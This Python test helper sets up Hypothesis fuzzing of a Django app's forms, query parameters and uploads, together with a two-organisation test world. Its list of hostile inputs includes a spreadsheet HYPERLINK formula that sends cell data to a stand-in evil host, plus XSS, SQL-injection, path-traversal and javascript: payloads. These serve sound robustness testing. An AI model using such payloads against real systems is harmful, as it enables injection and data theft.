"""What the fuzzers share: how many examples, the values that have broken
software before, the forms of a page as its HTML has them, values for one
field, and the world the fuzzers run in.

The fuzzers (test_fuzz_*.py) check that no input gives a 500: every form
Mandat shows, every form class, the query parameters of its pages, the
register import and the personal links. The examples are derandomized, so
the suite gives the same answer on every run; raise the EXAMPLES_ numbers
locally to dig deeper."""

from html.parser import HTMLParser

from django import forms as django_forms
from django.core.files.uploadedfile import SimpleUploadedFile
from hypothesis import HealthCheck, settings
from hypothesis import strategies as st

from mandat.core.tests.world import Prober, build_world

EXAMPLES_PER_FORM = 25
EXAMPLES_PER_QUERY = 10
FUZZ = settings(
    max_examples=EXAMPLES_PER_FORM,
    deadline=None,
    derandomize=True,
    database=None,
    suppress_health_check=list(HealthCheck),
)
# Who opens each page: the first identity the table lets see it.
PREFERENCE = (
    "coordinator",
    "administrator",
    "secretary",
    "steering_member",
    "elected",
    "course_leader",
    "official",
    "anonymous",
)
# Forms not worth sending: they end the session or only switch language.
SKIP_ACTIONS = {"accounts:logout", "set_language"}
QUERY_KEYS = ["page", "export", "sort", "order", "year", "q", "status", "next"]

# Text that has broken software before.
NASTY_TEXT = [
    "",
    " ",
    "\x00",
    "a\x00b",
    "\u202eevil\u202c",
    "\u2066x\u2069",
    '=HYPERLINK("http://evil.example/?d="&A1,"Klicka")',
    "<script>alert(1)</script>",
    "' OR 1=1 --",
    "%s %(name)s {0} {{ x }}",
    "Åsa Öberg-Ärlig",
    "😀" * 10,
    "x" * 5000,
    "-1",
    "0",
    "99999999999999999999999",
    "1e309",
    "NaN",
    "9999-12-31",
    "0001-01-01",
    "2026-02-30",
    "10000-01-01",
    "2026-13-01T25:61",
    "9999-12-31T23:59",
    "../../etc/passwd",
    "http://evil.example/",
    "javascript:alert(1)",
    "a@b",
    "ä@ö.se",
]
DATES = ["9999-12-31", "0001-01-01", "1899-12-31", "2026-02-29", "2027-06-15", ""]
TIMES = ["00:00", "23:59", "24:00", "12:60", "08:30", ""]


# Numbers at the edges of years, 32- and 64-bit integers and decimals.
EDGE_NUMBERS = [
    "0",
    "-1",
    "1.5",
    "1,5",
    "-0",
    "1e5",
    "9999",
    "10000",
    "99999",
    "2147483648",
    "9223372036854775807",
    "9223372036854775808",
    "9" * 30,
]


def text_values() -> st.SearchStrategy[str]:
    nasty = st.sampled_from(NASTY_TEXT + EDGE_NUMBERS)
    return st.one_of(
        nasty,
        nasty,
        st.text(max_size=60),
        st.text(alphabet=st.characters(codec="utf-8"), max_size=300),
    )


# Forms in the HTML --------------------------------------------------------------------


class FormParser(HTMLParser):
    """Collect the forms of a page: method, action, enctype and fields."""

    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.forms: list[dict] = []
        self.links: list[str] = []
        self._form: dict | None = None
        self._select: dict | None = None

    def handle_starttag(self, tag, attrs):
        attrs = dict(attrs)
        if tag == "a" and attrs.get("href", "").startswith("?"):
            self.links.append(attrs["href"])
        if tag == "form":
            self._form = {
                "method": (attrs.get("method") or "get").upper(),
                "action": attrs.get("action"),
                "fields": {},
            }
            self.forms.append(self._form)
        if tag == "option" and self._select is not None:
            self._select["options"].append(attrs.get("value", ""))
        if self._form is None or not attrs.get("name"):
            return
        name, fields = attrs["name"], self._form["fields"]
        if tag == "button" and attrs.get("value") is not None:
            fields.setdefault(name, {"type": "choice", "options": []})
            fields[name]["options"].append(attrs["value"])
        elif tag == "input":
            kind = (attrs.get("type") or "text").lower()
            if kind in ("submit", "button", "reset", "image"):
                if attrs.get("value") is not None:
                    fields.setdefault(name, {"type": "choice", "options": []})
                    fields[name]["options"].append(attrs["value"])
                return
            field = fields.setdefault(name, {"type": kind, "options": []})
            if attrs.get("value") is not None:
                field["options"].append(attrs["value"])
            if attrs.get("checked") is not None or kind == "hidden":
                field["initial"] = attrs.get("value", "on")
        elif tag == "select":
            self._select = fields.setdefault(
                name,
                {"type": "select", "options": [], "multiple": "multiple" in attrs},
            )
        elif tag == "textarea":
            fields.setdefault(name, {"type": "textarea", "options": []})

    def handle_endtag(self, tag):
        if tag == "form":
            self._form = None
        elif tag == "select":
            self._select = None


def page_forms(html: str) -> tuple[list[dict], list[str]]:
    parser = FormParser()
    parser.feed(html)
    return parser.forms, parser.links


def field_values(field: dict, foreign_ids: list[str]) -> st.SearchStrategy:
    """Values a person or an attacker could send for one field."""
    kind, options = field["type"], [o for o in field["options"] if o is not None]
    anything = text_values()
    ids = st.sampled_from(foreign_ids + ["0", "-1", "999999999", "1.5", "x"])
    if kind == "file":
        names = st.one_of(
            st.sampled_from(["program.pdf", "a.xlsx", "x" * 300 + ".pdf", ".pdf"]),
            st.text(min_size=1, max_size=40).map(lambda name: name + ".pdf"),
        )
        contents = st.one_of(
            st.sampled_from([b"", b"%PDF-1.7\n", b"PK\x03\x04", b"\x00" * 64]),
            st.binary(max_size=512),
        )
        return st.builds(
            lambda name, content: SimpleUploadedFile(
                name.replace("\x00", "") or "x", content
            ),
            names,
            contents,
        )
    if kind in ("checkbox", "radio"):
        return st.one_of(st.sampled_from(options or ["on"]), anything)
    if kind in ("select", "choice"):
        choice = st.sampled_from(options) if options else anything
        single = st.one_of(choice, choice, ids, anything)
        if field.get("multiple"):
            return st.lists(single, max_size=4)
        return single
    if kind == "date":
        return st.one_of(st.sampled_from(DATES), st.dates().map(str), anything)
    if kind == "datetime-local":
        return st.one_of(
            st.builds(
                lambda d, t: f"{d}T{t}", st.sampled_from(DATES), st.sampled_from(TIMES)
            ),
            st.datetimes().map(lambda value: value.isoformat()[:16]),
            anything,
        )
    if kind == "time":
        return st.one_of(st.sampled_from(TIMES), anything)
    if kind == "number":
        edges = st.sampled_from(EDGE_NUMBERS)
        return st.one_of(
            edges,
            edges,
            st.integers(min_value=-(10**20), max_value=10**20).map(str),
            anything,
        )
    if kind == "hidden":
        return st.one_of(st.sampled_from(options or [""]), ids, anything)
    if kind == "email":
        return st.one_of(st.emails().map(str), anything)
    return anything


def foreign_ids(world) -> list[str]:
    """Ids of the other organisation's objects, for fields that name one."""
    return sorted(
        {
            str(value)
            for name, value in world["theirs"]["values"].items()
            if name.endswith("_id") and isinstance(value, int)
        }
    )


def mandat_form_classes() -> set[type]:
    """Every form class defined in a forms module (or a module of a forms
    package) of Mandat's apps."""
    import importlib
    import inspect

    from django.apps import apps

    found = set()
    for config in apps.get_app_configs():
        if not config.name.startswith("mandat."):
            continue
        try:
            module = importlib.import_module(f"{config.name}.forms")
        except ModuleNotFoundError:
            continue
        for _name, value in inspect.getmembers(module, inspect.isclass):
            # A form, not a base of forms (CleanInputMixin has no fields).
            if (
                issubclass(value, django_forms.BaseForm)
                and hasattr(value, "base_fields")
            ) and (
                value.__module__ == module.__name__
                or value.__module__.startswith(f"{module.__name__}.")
            ):
                found.add(value)
    return found


def fuzz_world(client) -> dict:
    """Our organisation and another, and a client signed in as every role of
    ours (and as nobody)."""
    ours = build_world("exempelby", "Exempelby kommun")
    theirs = build_world("grannby", "Grannby kommun")
    prober = Prober(client)
    prober.log_in("anonymous", None)
    for name, user in ours["users"].items():
        prober.log_in(name, user)
    return {"ours": ours, "theirs": theirs, "prober": prober}
